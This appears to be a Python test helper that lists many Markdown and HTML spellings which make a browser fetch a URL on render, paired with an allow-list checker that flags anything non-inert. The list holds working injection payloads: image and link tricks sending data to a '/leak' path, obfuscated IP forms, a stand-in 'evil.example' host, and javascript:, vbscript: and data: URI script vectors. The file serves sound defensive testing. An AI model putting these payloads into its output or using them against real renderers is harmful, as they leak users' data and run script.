"""Spellings of Markdown and HTML that try to make a browser fetch something when text renders.

Each entry is a function of the host the fetch would go to, so the unit tests can look for a
recognisable name and the browser tests can point every spelling at a listener on loopback.
The HTML check says what inert means: only the structure tags a note may have, and no
attribute at all except a link to an anchor on the same page.
"""

from __future__ import annotations

from html.parser import HTMLParser


def hostile(host: str) -> list[str]:
    """Every way we know to ask for ``host`` from rendered text (host may carry a port)."""
    h = host
    ip = h.split(":")[0]
    port = f":{h.split(':')[1]}" if ":" in h else ""
    return [
        # reference-style images: the definition after a list or quote marker, or far away
        f"![x]\n\n- [x]: //{h}/leak?d=ref-list",
        f"![x][y]\n\n> [y]: //{h}/leak?d=ref-quote",
        f"![x][]\n\n1. [x]: http://{h}/leak?d=ref-ordered",
        f"Intro ![chart][c] text.\n\n\n\n   [c]: <//{h}/leak?d=ref-angle> 'title'",
        f"[x]: //{h}/leak?d=ref-before\n\n![x]",
        f"[![x][i]][l]\n\n[i]: //{h}/leak?d=ref-nested-img\n[l]: //{h}/leak?d=ref-nested-link",
        f"# Heading ![x][r]\n\n[r]: //{h}/leak?d=ref-heading",
        f"\u00a0 [x]: //{h}/leak?d=ref-nbsp\n\n![x]",
        f"![x]\n\n[x]\u200b: //{h}/leak?d=ref-zw",
        f"![X]\n\n* [x]:\n  //{h}/leak?d=ref-nextline",
        # inline images and their URL spellings
        f"![x](//{h}/leak?d=protocol-relative)",
        f"![x](\\\\{h}/leak?d=backslashes)",
        f"![x](http:/\\{h}/leak?d=slash-backslash)",
        f"![x](http:\\\\{h}/leak?d=http-backslashes)",
        f"![x](HTTP://{h}/leak?d=upper)",
        f"![x](<//{h}/leak?d=angle>)",
        f'![x](//{h}/leak?d=title "title")',
        f"![a ![b](//{h}/leak?d=nested-inner)](//{h}/leak?d=nested-outer)",
        f"[![img](//{h}/leak?d=img-in-link)](//{h}/leak?d=link)",
        f"!\\[x\\](//{h}/leak?d=escaped-brackets)",
        f"!&#91;x&#93;(//{h}/leak?d=entity-brackets)",
        f"&#x21;&#x5B;x&#x5D;&#x28;//{h}/leak?d=hex-entities&#x29;",
        f"!\u200b[x](//{h}/leak?d=zero-width)",
        f"![x]\u200b(//{h}/leak?d=zero-width-2)",
        f"\uff01\uff3bx\uff3d\uff08//{h}/leak?d=fullwidth\uff09",
        f"![x](http://0x7f.0.0.9{port}/leak?d=hex-ip)",
        f"![x](//2130706441{port}/leak?d=decimal-ip)",
        f"![x](//0177.0.0.9{port}/leak?d=octal-ip)",
        f"![x](//127.9{port}/leak?d=short-ip)",
        f"![x](//{ip}.{port}/leak?d=trailing-dot)",
        # raw HTML in any case, SVG, CSS
        f"<img src=//{h}/leak?d=img>",
        f'<IMG SRC="//{h}/leak?d=IMG">',
        f"<iMg/src=//{h}/leak?d=slash-attr>",
        f'<img src=x srcset="//{h}/leak?d=srcset 2x">',
        f'<svg><image href="//{h}/leak?d=svg"/></svg>',
        f'<svg><use xlink:href="//{h}/leak?d=svg-use#a"/></svg>',
        f'<div style="background:url(//{h}/leak?d=css)">x</div>',
        f"<span style='background-image:url(\"//{h}/leak?d=css2\")'>y</span>",
        f"<style>@import url(//{h}/leak?d=import);</style>",
        f"<picture><source srcset=//{h}/leak?d=picture></picture>",
        f"<video poster=//{h}/leak?d=poster></video>",
        f"<link rel=stylesheet href=//{h}/leak?d=link-css>",
        f"<iframe src=//{h}/leak?d=iframe></iframe>",
        f"<object data=//{h}/leak?d=object></object>",
        f"<embed src=//{h}/leak?d=embed>",
        f"<input type=image src=//{h}/leak?d=input>",
        f"<table background=//{h}/leak?d=table-bg><tr><td>t</td></tr></table>",
        f"<a href=//{h}/leak?d=anchor>a</a>",
        f"&lt;img src=//{h}/leak?d=lt-entity&gt;",
        f"<!-- ![x](//{h}/leak?d=comment) -->",
        f"<img src=//{h}/leak?d=unclosed",
        # autolinks and bare URLs
        f"<http://{h}/leak?d=autolink>",
        f"<//{h}/leak?d=autolink-relative>",
        f"see http://{h}/leak?d=bare now",
        f"see //{h}/leak?d=bare-relative now",
        "www.evil.example/leak?d=www",
        # links that are not to a cited source
        f"[x](//{h}/leak?d=link-relative)",
        "[click](javascript:alert(1))",
        "[click](JaVaScRiPt:alert(1))",
        "[click](java&#x09;script:alert(1))",
        "[d](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
        "![d](data:image/svg+xml;base64,PHN2Zz48L3N2Zz4=)",
        "[v](vbscript:msgbox(1))",
        # inside headings, tables, footnotes, quotes, lists
        f"## ![x](//{h}/leak?d=heading)",
        f"| a | b |\n|---|---|\n| ![x](//{h}/leak?d=table) | [l](//{h}/leak?d=table-link) |",
        f"Note[^1]\n\n[^1]: ![x](//{h}/leak?d=footnote)",
        f"> quote ![x](//{h}/leak?d=quote)",
        f"- item\n  ![x](//{h}/leak?d=list-continuation)",
        # code, diagrams and maths the page renders by itself
        f"```mermaid\ngraph TD\n  A[\"<img src='//{h}/leak?d=mermaid'>\"] --> B\n```",
        f"```html\n<img src=//{h}/leak?d=fenced>\n```",
        f"$$\\href{{//{h}/leak?d=latex}}{{x}}\\includegraphics{{//{h}/leak?d=latex2}}$$",
    ]


# The tags a rendered note may contain: structure, never anything that loads.
STRUCTURE = {
    "p",
    "em",
    "strong",
    "s",
    "del",
    "code",
    "pre",
    "h1",
    "h2",
    "h3",
    "h4",
    "h5",
    "h6",
    "ul",
    "ol",
    "li",
    "blockquote",
    "hr",
    "br",
    "table",
    "thead",
    "tbody",
    "tr",
    "th",
    "td",
    "a",
}


class _Tags(HTMLParser):
    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.bad: list[str] = []
        self.text: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag not in STRUCTURE:
            self.bad.append(f"<{tag}>")
        for name, value in attrs:
            if tag == "a" and name == "href" and (value or "").startswith("#"):
                continue
            if tag == "ol" and name == "start":
                continue
            if (
                tag in ("th", "td")
                and name == "style"
                and (value or "").startswith("text-align:")
                and "(" not in (value or "")
            ):
                continue
            self.bad.append(f"<{tag} {name}={value!r}>")

    handle_startendtag = handle_starttag

    def handle_data(self, data: str) -> None:
        self.text.append(data)


def unsafe_parts(rendered_html: str, text_links: bool = True) -> list[str]:
    """What in this HTML could load or link to anything outside the page (empty: inert).

    With ``text_links``, words a GFM renderer would link by themselves count too."""
    tags = _Tags()
    tags.feed(rendered_html)
    tags.close()
    text = "".join(tags.text).lower()
    # Text a GFM renderer would turn into a link by itself.
    bare = [w for w in ("http:", "https:", "www.", "://") if w in text] if text_links else []
    return tags.bad + [f"linkable text {w!r}" for w in bare]
